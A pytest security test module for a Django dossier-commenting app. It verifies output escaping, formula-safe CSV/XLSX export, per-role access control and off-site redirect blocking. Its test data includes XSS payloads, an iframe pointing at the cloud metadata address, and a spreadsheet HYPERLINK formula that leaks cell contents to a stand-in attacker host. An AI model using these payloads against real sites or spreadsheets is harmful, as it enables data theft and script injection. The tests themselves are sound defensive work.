"""Security of the werkgroep's screens: nothing a user types can become markup, script or a spreadsheet formula,
and every URL enforces who may read and who may write (403 for a role, 404 outside the dossier)."""

import csv
import io
import re
from html.parser import HTMLParser

import openpyxl
import pytest
from django.urls import reverse

from dossier.models import Role
from dossier.tests.factories import DossierFactory, MembershipFactory, RiskFactory, UserFactory

from .. import anchors, markup, services
from ..models import Advice, AdviceRound, Comment, CommentRevision, Notification, Thread
from .factories import CommentFactory

pytestmark = pytest.mark.django_db

HTMX = {"HTTP_HX_REQUEST": "true"}
TEXT_COLUMN = 16  # "Text" in the export: the comment as typed


def url(name, dossier, **kwargs):
    return reverse(f"dossier:{name}", kwargs={"slug": dossier.slug, **kwargs})


def anchor_url(dossier, obj, kind="risico", part=""):
    kwargs = {"kind": kind, "pk": obj.pk}
    return (
        url("anchor-threads-part", dossier, part=part, **kwargs) if part else url("anchor-threads", dossier, **kwargs)
    )


# ---------------------------------------------------------------------------------------------- sanitising

# (what a werkgroep member types, how (a part of) it must appear in the comment's HTML: escaped, as text)
PAYLOADS = [
    ("<script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("<img src=x onerror=alert(1)>", "&lt;img src=x onerror=alert(1)&gt;"),
    ("[klik](javascript:alert(1))", "[klik](javascript:alert(1))"),
    ('<a href="javascript:alert(1)">x</a>', '&lt;a href="javascript:alert(1)"&gt;x&lt;/a&gt;'),
    ('<div hx-get="/x" hx-trigger="load">x</div>', '&lt;div hx-get="/x" hx-trigger="load"&gt;x&lt;/div&gt;'),
    ('<button hx-on:click="alert(1)">x</button>', '&lt;button hx-on:click="alert(1)"&gt;x&lt;/button&gt;'),
    ('<img src="file:///etc/passwd">', '&lt;img src="file:///etc/passwd"&gt;'),
    ("<svg onload=alert(1)>", "&lt;svg onload=alert(1)&gt;"),
    ('<iframe src="http://169.254.169.254/">', '&lt;iframe src="'),
    ("<style>@import url(http://evil/x.css)</style>", "&lt;style&gt;"),
]
PAYLOAD_IDS = [
    "script",
    "img-onerror",
    "md-javascript",
    "a-javascript",
    "hx-get",
    "hx-on",
    "img-file",
    "svg",
    "iframe",
    "style",
]
FORBIDDEN = ["<script", "<img", "<iframe", "<svg", "<style", "<div", "<button"]
# An attribute inside a tag (the same words as text, escaped, are harmless: `&lt;a href="javascript:…"&gt;`).
FORBIDDEN_ATTRIBUTE_RE = re.compile(r"<[a-z][^<>]*\s(?:on\w+|hx-[\w:-]+|href=\"javascript:)", re.I)
ALLOWED_TAGS = {"p", "br", "em", "strong", "code", "ul", "ol", "li", "a", "span"}
COMMENT_TEXT_RE = re.compile(r'<div class="comment-text">(.*?)</div>', re.S)


class Inspector(HTMLParser):
    """The tags, attributes and visible text of an HTML fragment."""

    def __init__(self, fragment):
        super().__init__(convert_charrefs=True)
        self.tags, self.attributes, self.text = [], [], []
        self.feed(fragment)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes.extend(attrs)

    def handle_data(self, data):
        self.text.append(data)


def comment_regions(page: str) -> list[str]:
    regions = COMMENT_TEXT_RE.findall(page)
    assert regions, "no comment text on the page"
    return regions


def assert_harmless(region: str, visible: str):
    lowered = region.lower()
    for forbidden in FORBIDDEN:
        assert forbidden not in lowered, (forbidden, region)
    assert not FORBIDDEN_ATTRIBUTE_RE.search(region), region
    found = Inspector(region)
    assert set(found.tags) <= ALLOWED_TAGS, region
    for name, value in found.attributes:
        assert not name.startswith(("on", "hx-", "data-", "style", "src")), region
        if name == "href":
            assert value.lower().startswith(("http://", "https://", "mailto:")), region
    assert visible in region


def place(client, dossier, risk, text):
    """Place `text` as a new thread through the view. Hostile text that contains an @word (`@import`, `@SUM`)
    is a mention; a member of that name is added so the text can be placed (else it is refused, see below)."""
    for name in markup.find_mentions(text):
        MembershipFactory(dossier=dossier, user=UserFactory(username=name), role=Role.COLLEGE)
    response = client.post(anchor_url(dossier, risk), {"text": text})
    assert response.status_code == 302, response.content.decode()[:2000]
    return Thread.objects.latest("id")


@pytest.mark.parametrize(("payload", "visible"), PAYLOADS, ids=PAYLOAD_IDS)
def test_a_typed_payload_is_shown_as_text_on_the_thread_page_and_the_panel(client_as, dossier, risk, payload, visible):
    client = client_as("werkgroep")
    thread = place(client, dossier, risk, payload)
    assert thread.comments.get().text == payload  # stored as typed

    pages = {
        "thread page": client.get(url("thread", dossier, pk=thread.pk)),
        "anchor page": client.get(anchor_url(dossier, risk)),
        "anchor panel": client.get(anchor_url(dossier, risk), **HTMX),
        "thread fragment": client.get(url("thread", dossier, pk=thread.pk), **HTMX),
    }
    for where, response in pages.items():
        assert response.status_code == 200, where
        page = response.content.decode()
        for region in comment_regions(page):
            assert_harmless(region, visible)
        if "<" in payload:  # not even in the edit form's textarea
            assert payload not in page, where


def test_hostile_text_with_an_unknown_at_word_is_refused_and_kept_escaped(client_as, dossier, risk):
    payload = PAYLOADS[-1][0]  # <style>@import url(…)</style>: @import is read as a mention of a non-member
    response = client_as("werkgroep").post(anchor_url(dossier, risk), {"text": payload})

    assert response.status_code == 400
    page = response.content.decode()
    assert "@import" in page and f"id_reacties-risico-{risk.pk}_text_error" in page
    assert "&lt;style&gt;@import url(http://evil/x.css)&lt;/style&gt;" in page  # kept in the textarea
    assert "<style" not in page.lower()
    assert not Thread.objects.exists()


@pytest.mark.parametrize(
    "payload",
    [p for p, _ in PAYLOADS],
    ids=PAYLOAD_IDS,
)
def test_the_reader_sees_exactly_what_was_typed(client_as, dossier, risk, payload):
    """markup.render autolinks bare URLs after escaping, so `&quot;` and `&gt;` are swallowed into the URL:
    `<iframe src="http://169.254.169.254/">` becomes a link to `http://169.254.169.254/">` followed by a stray `;`."""
    client = client_as("werkgroep")
    thread = place(client, dossier, risk, payload)
    page = client.get(url("thread", dossier, pk=thread.pk)).content.decode()
    (region,) = comment_regions(page)
    assert "".join(Inspector(region).text) == payload


@pytest.mark.parametrize("typed", ['Zie "https://example.org/rapport".', "Zie <https://example.org/rapport>."])
def test_a_quoted_url_links_to_the_url_itself(typed):
    rendered = markup.render(typed)
    assert 'href="https://example.org/rapport"' in rendered
    assert "".join(Inspector(rendered).text) == typed


def test_the_status_note_and_the_advice_are_sanitised_too(client_as, dossier, m, risk):
    payload, visible = PAYLOADS[0]
    thread = services.thread_open(
        membership=m["werkgroep"], anchor=anchors.resolve(dossier, "risico", risk.pk), text="x"
    )
    services.thread_set_status(membership=m["kwartiermaker"], thread=thread, status="verwerkt", note=payload)
    advice_round = services.advice_round_request(membership=m["kwartiermaker"], note=PAYLOADS[1][0])
    services.advice_give(membership=m["werkgroep"], advice_round=advice_round, verdict="positief", text=payload)

    page = client_as("college").get(url("thread", dossier, pk=thread.pk)).content.decode()
    (article,) = re.findall(r'<article id="draad-.*?</article>', page, re.S)
    assert "<script" not in article and visible in article

    page = client_as("college").get(url("advice", dossier)).content.decode()
    (matrix,) = re.findall(r'<table class="matrix">.*?</table>', page, re.S)
    assert "<script" not in matrix and visible in matrix
    (request_card,) = re.findall(r'<div class="card">.*?</div>', page, re.S)
    assert "<img" not in request_card and PAYLOADS[1][1] in request_card


# ---------------------------------------------------------------------------------------------- exports

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"klik hier")',
    "=1+1",
    "@SUM(A1)",
    "+1+1",
    "-1+1",
]


def csv_rows(response):
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))


def xlsx_sheet(response):
    assert response.status_code == 200
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    return workbook.worksheets[0]


def exported(client, dossier):
    base = url("threads", dossier)
    return csv_rows(client.get(base, {"formaat": "csv"})), xlsx_sheet(client.get(base, {"formaat": "xlsx"}))


@pytest.mark.parametrize(
    "payload", [p for p, _ in PAYLOADS] + ["**vet** en *schuin*\n\n- punt één\n- punt twee"], ids=[*PAYLOAD_IDS, "md"]
)
def test_the_export_has_the_text_as_typed(client_as, dossier, risk, payload):
    client = client_as("werkgroep")
    place(client, dossier, risk, payload)

    rows, sheet = exported(client, dossier)

    assert len(rows) == 2 and rows[1][TEXT_COLUMN] == payload
    cell = sheet.cell(row=2, column=TEXT_COLUMN + 1)
    assert cell.value == payload and cell.data_type == "s"


@pytest.mark.parametrize("payload", FORMULAS)
def test_the_export_never_contains_a_formula(client_as, dossier, risk, payload):
    client = client_as("werkgroep")
    place(client, dossier, risk, payload)

    rows, sheet = exported(client, dossier)

    assert rows[1][TEXT_COLUMN] == "'" + payload
    cell = sheet.cell(row=2, column=TEXT_COLUMN + 1)
    assert cell.value == "'" + payload
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)


def test_an_element_name_that_looks_like_a_formula_is_quoted_in_the_export(client_as, dossier):
    risk = RiskFactory(dossier=dossier, description="=1+1 (risico)")
    client = client_as("kwartiermaker")
    place(client, dossier, risk, "Gewoon een opmerking")

    rows, sheet = exported(client, dossier)

    assert "'=1+1 (risico)" in rows[1]
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)


# ---------------------------------------------------------------------------------------------- permissions


@pytest.fixture
def world(dossier, m, risk):
    """A thread opened by the werkgroep with a reply of the kwartiermaker, an advice round, and another dossier with
    its own thread, comment and round."""
    anchor = anchors.resolve(dossier, "risico", risk.pk)
    thread = services.thread_open(membership=m["werkgroep"], anchor=anchor, text="Vraag van de werkgroep")
    reply = services.comment_reply(membership=m["kwartiermaker"], thread=thread, text="Antwoord")
    services.advice_round_request(membership=m["kwartiermaker"])

    other = DossierFactory(slug="elders")
    other_kwartiermaker = MembershipFactory(dossier=other, role=Role.KWARTIERMAKER)
    other_risk = RiskFactory(dossier=other)
    other_thread = services.thread_open(
        membership=other_kwartiermaker, anchor=anchors.resolve(other, "risico", other_risk.pk), text="Elders"
    )
    services.advice_round_request(membership=other_kwartiermaker)
    services.advice_round_request(membership=other_kwartiermaker)  # round 2 exists only there
    return {
        "thread": thread,
        "own_comment": thread.comments.first(),  # the werkgroep member's
        "kwartiermaker_comment": reply,
        "other_thread": other_thread,
        "other_comment": other_thread.comments.get(),
        "other_risk": other_risk,
    }


def reads(dossier, risk, w):
    return [
        url("threads", dossier),
        url("threads", dossier) + "?formaat=csv",
        url("threads", dossier) + "?formaat=xlsx",
        url("members", dossier),
        url("thread", dossier, pk=w["thread"].pk),
        anchor_url(dossier, risk),
        anchor_url(dossier, risk, part="mitigation"),
        url("advice", dossier),
    ]


def writes(dossier, risk, w):
    """Every write of the werkgroep screens, with valid data."""
    thread = w["thread"]
    return {
        "new thread": (anchor_url(dossier, risk), {"text": "Nieuwe draad"}),
        "new thread on a part": (anchor_url(dossier, risk, part="mitigation"), {"text": "Nieuwe draad"}),
        "reply": (url("thread-reply", dossier, pk=thread.pk), {"text": "Nog een reactie"}),
        "status": (url("thread-status", dossier, pk=thread.pk), {"status": "vervallen", "expected_version": 1}),
        "edit": (url("comment-edit", dossier, pk=w["own_comment"].pk), {"text": "Gewijzigd"}),
        "withdraw": (url("comment-withdraw", dossier, pk=w["own_comment"].pk), {}),
        "advice request": (url("advice-request", dossier), {"note": "Nog een ronde"}),
        "advice give": (url("advice-give", dossier, number=1), {"verdict": "positief", "text": "Akkoord"}),
    }


def snapshot():
    """Everything a write could change."""
    return (
        list(Thread.objects.values_list("id", "status", "version")),
        list(Comment.objects.values_list("id", "text", "edited_at", "withdrawn_at")),
        CommentRevision.objects.count(),
        AdviceRound.objects.count(),
        Advice.objects.count(),
        Notification.objects.count(),
    )


@pytest.mark.parametrize("role", ["kwartiermaker", "werkgroep", "college"])
def test_every_member_reads_the_werkgroep_pages(client_as, dossier, risk, world, role):
    client = client_as(role)
    for address in reads(dossier, risk, world):
        assert client.get(address).status_code == 200, address
        assert client.get(address, **HTMX).status_code == 200, address


@pytest.mark.parametrize("htmx", [False, True], ids=["plain", "htmx"])
def test_the_college_gets_403_on_every_write(client_as, dossier, risk, world, htmx):
    client = client_as("college")
    before = snapshot()
    for name, (address, data) in writes(dossier, risk, world).items():
        assert client.post(address, data, **(HTMX if htmx else {})).status_code == 403, name
        assert client.post(address, {}, **(HTMX if htmx else {})).status_code == 403, f"{name} (empty form)"
    assert snapshot() == before


def test_the_college_cannot_edit_a_comment_it_wrote_before_its_role_changed(client_as, dossier, members, world):
    """A former werkgroep member who is now in the college no longer writes, not even in their own comments."""
    old = CommentFactory(thread=world["thread"], author=members["college"], role=Role.WERKGROEP, text="Oud")
    client = client_as("college")
    for htmx in ({}, HTMX):
        assert client.post(url("comment-edit", dossier, pk=old.pk), {"text": "Nieuw"}, **htmx).status_code == 403
        assert client.post(url("comment-withdraw", dossier, pk=old.pk), **htmx).status_code == 403
    old.refresh_from_db()
    assert old.text == "Oud" and old.withdrawn_at is None


@pytest.mark.parametrize("htmx", [False, True], ids=["plain", "htmx"])
@pytest.mark.parametrize(
    ("role", "forbidden"),
    [("werkgroep", ["status", "advice request"]), ("kwartiermaker", ["advice give"])],
)
def test_each_role_gets_403_on_what_is_not_theirs(client_as, dossier, risk, world, role, forbidden, htmx):
    client = client_as(role)
    before = snapshot()
    all_writes = writes(dossier, risk, world)
    for name in forbidden:
        address, data = all_writes[name]
        assert client.post(address, data, **(HTMX if htmx else {})).status_code == 403, name
    assert snapshot() == before


@pytest.mark.parametrize("htmx", [False, True], ids=["plain", "htmx"])
@pytest.mark.parametrize(
    ("role", "comment"), [("kwartiermaker", "own_comment"), ("werkgroep", "kwartiermaker_comment")]
)
def test_nobody_edits_or_withdraws_another_persons_comment(client_as, dossier, world, role, comment, htmx):
    target = world[comment]
    client = client_as(role)
    before = snapshot()
    headers = HTMX if htmx else {}
    assert client.post(url("comment-edit", dossier, pk=target.pk), {"text": "Gekaapt"}, **headers).status_code == 403
    assert client.post(url("comment-withdraw", dossier, pk=target.pk), **headers).status_code == 403
    assert snapshot() == before


def test_another_werkgroep_member_cannot_edit_my_comment(client, dossier, world):
    colleague = MembershipFactory(dossier=dossier, role=Role.WERKGROEP, discipline="hr").user
    client.force_login(colleague)
    target = world["own_comment"]
    assert client.post(url("comment-edit", dossier, pk=target.pk), {"text": "Gekaapt"}).status_code == 403
    assert client.post(url("comment-withdraw", dossier, pk=target.pk)).status_code == 403


def test_an_outsider_gets_404_on_every_url_of_the_dossier(client_as, dossier, risk, world):
    client = client_as("outsider")
    before = snapshot()
    for address in reads(dossier, risk, world):
        assert client.get(address).status_code == 404, address
    for name, (address, data) in writes(dossier, risk, world).items():
        assert client.post(address, data).status_code == 404, name
        assert client.post(address, data, **HTMX).status_code == 404, name
    assert snapshot() == before


@pytest.mark.parametrize("role", ["kwartiermaker", "werkgroep", "college"])
def test_ids_of_another_dossier_give_404(client_as, dossier, world, role):
    client = client_as(role)
    before = snapshot()
    thread, comment = world["other_thread"], world["other_comment"]
    assert client.get(url("thread", dossier, pk=thread.pk)).status_code == 404
    assert client.get(anchor_url(dossier, world["other_risk"])).status_code == 404
    assert client.post(anchor_url(dossier, world["other_risk"]), {"text": "Hallo"}).status_code == 404
    if role == "college":  # the college is refused before the thread is looked up
        return
    assert client.post(url("thread-reply", dossier, pk=thread.pk), {"text": "Hallo"}).status_code == 404
    assert client.post(url("comment-edit", dossier, pk=comment.pk), {"text": "Gekaapt"}).status_code == 404
    assert client.post(url("comment-withdraw", dossier, pk=comment.pk)).status_code == 404
    if role == "kwartiermaker":
        data = {"status": "vervallen", "expected_version": 1}
        assert client.post(url("thread-status", dossier, pk=thread.pk), data).status_code == 404
    if role == "werkgroep":
        data = {"verdict": "positief", "text": "Akkoord"}
        assert client.post(url("advice-give", dossier, number=2), data).status_code == 404
    assert snapshot() == before


def test_an_unknown_element_kind_or_part_gives_404(client_as, dossier, risk):
    client = client_as("kwartiermaker")
    assert client.get(url("anchor-threads", dossier, kind="onbekend", pk=risk.pk)).status_code == 404
    assert client.get(url("anchor-threads", dossier, kind="bronvermelding", pk=1)).status_code == 404
    assert client.get(anchor_url(dossier, risk, part="geen-veld")).status_code == 404
    assert client.get(url("anchor-threads", dossier, kind="risico", pk=risk.pk + 999)).status_code == 404


def test_the_member_list_shows_only_this_dossiers_members(client_as, dossier, members):
    names = {m["username"] for m in client_as("werkgroep").get(url("members", dossier)).json()["members"]}
    assert names == {members[r].username for r in ("kwartiermaker", "werkgroep", "college")}


def test_anonymous_is_sent_to_the_login_page(client, dossier, risk, world):
    addresses = [*reads(dossier, risk, world), reverse("notifications"), reverse("notification-settings")]
    addresses.append(reverse("notification-open", kwargs={"pk": 1}))
    for address in addresses:
        response = client.get(address)
        assert response.status_code == 302 and response["Location"].startswith(reverse("login")), address
    posts = [address for address, _ in writes(dossier, risk, world).values()]
    for address in [*posts, reverse("notifications-read"), reverse("notification-settings")]:
        response = client.post(address, {"text": "x"})
        assert response.status_code == 302 and response["Location"].startswith(reverse("login")), address


def test_a_reply_never_redirects_off_site(client_as, dossier, world):
    response = client_as("werkgroep").post(
        url("thread-reply", dossier, pk=world["thread"].pk), {"text": "Hoi", "next": "https://evil.example/"}
    )
    assert response.status_code == 302
    assert response["Location"].startswith(url("thread", dossier, pk=world["thread"].pk))


# ---------------------------------------------------------------------------------------------- notifications


@pytest.fixture
def someone_elses_notification(members, world):
    """A notification of the werkgroep member (the kwartiermaker's reply in their thread)."""
    notification = Notification.objects.get(recipient=members["werkgroep"], comment=world["kwartiermaker_comment"])
    assert notification.read_at is None
    return notification


@pytest.mark.parametrize("role", ["kwartiermaker", "college", "outsider"])
def test_another_users_notification_cannot_be_opened(client_as, someone_elses_notification, role):
    response = client_as(role).get(reverse("notification-open", kwargs={"pk": someone_elses_notification.pk}))
    assert response.status_code == 404
    someone_elses_notification.refresh_from_db()
    assert someone_elses_notification.read_at is None


@pytest.mark.parametrize("role", ["kwartiermaker", "outsider"])
def test_another_users_notification_cannot_be_marked_read(client_as, someone_elses_notification, role):
    client = client_as(role)
    assert client.post(reverse("notifications-read"), {"id": someone_elses_notification.pk}).status_code == 302
    assert client.post(reverse("notifications-read")).status_code == 302  # "mark all": only their own
    someone_elses_notification.refresh_from_db()
    assert someone_elses_notification.read_at is None


def test_the_inbox_shows_only_your_own_notifications(client_as, someone_elses_notification):
    response = client_as("kwartiermaker").get(reverse("notifications"))
    target = reverse("notification-open", kwargs={"pk": someone_elses_notification.pk})
    assert target not in response.content.decode()
